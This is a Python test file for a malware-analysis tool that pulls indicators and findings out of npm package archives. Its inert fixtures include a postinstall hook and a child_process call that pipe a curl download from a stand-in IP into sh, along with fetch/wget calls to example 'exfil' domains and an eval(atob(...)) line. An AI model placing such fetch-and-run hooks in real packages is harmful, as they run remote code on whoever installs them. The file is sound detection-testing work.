"""One archive in, its features out: what is taken from which file."""

from __future__ import annotations

import json

from malgraph.analysis.analyze import analyze_archive
from malgraph.core.kinds import (
    AnalysisStatus,
    CodeLanguage,
    FindingCategory,
    ImportKind,
    IocKind,
)
from tests.inert_packages import tar_gz


def test_iocs_come_from_code_scripts_and_install_hooks_not_from_documentation() -> None:
    manifest = {
        "name": "copycat",
        "version": "1.0.0",
        "homepage": "https://github.com/someone/original#readme",
        "scripts": {"postinstall": "curl -s http://203.0.113.9/x.sh | sh"},
    }
    archive = tar_gz(
        {
            "package/package.json": json.dumps(manifest, indent=2).encode(),
            "package/README.md": b"See https://docs.example-original.com/guide for more.\n",
            "package/index.js": b"// fetch the next stage\nfetch('https://stage.example-exfil.top/n');\n",
            "package/run.sh": b"#!/bin/sh\nwget https://drop.example-exfil.top/p\n",
        }
    )
    analysis = analyze_archive(archive, "copycat-1.0.0.tgz")
    assert analysis.status == "ok" and analysis.features is not None
    found = {(i.kind, i.value, i.file, i.line) for i in analysis.features.iocs}
    assert found == {
        ("url", "https://stage.example-exfil.top/n", "package/index.js", 2),
        ("url", "https://drop.example-exfil.top/p", "package/run.sh", 2),
        ("url", "http://203.0.113.9/x.sh", "package/package.json", 6),  # the script line
    }


def test_what_crosses_module_borders_is_an_enum_member() -> None:
    archive = tar_gz(
        {
            "package/package.json": b'{"name": "x", "version": "1.0.0"}',
            "package/index.js": (
                b"const cp = require('child_process');\n"
                b"cp.exec('curl http://203.0.113.9/x.sh | sh');\n"
                b"eval(atob('ZXZhbA=='));\n"
            ),
        }
    )
    analysis = analyze_archive(archive, "x-1.0.0.tgz")
    assert analysis.status is AnalysisStatus.OK and analysis.features is not None
    features = analysis.features
    assert {type(f.category) for f in features.findings} == {FindingCategory}
    assert {f.category for f in features.findings} >= {
        FindingCategory.PROCESS,
        FindingCategory.EVAL,
        FindingCategory.DECODE,
    }
    assert [(i.module, i.kind) for i in features.imports] == [("child_process", ImportKind.REQUIRE)]
    assert [(i.kind, i.value) for i in features.iocs] == [(IocKind.URL, "http://203.0.113.9/x.sh")]
    assert type(features.iocs[0].kind) is IocKind
    languages = {f.path: f.language for f in features.files}
    assert languages == {"package/index.js": CodeLanguage.JAVASCRIPT, "package/package.json": None}
    assert analyze_archive(b"not an archive").status is AnalysisStatus.UNREADABLE
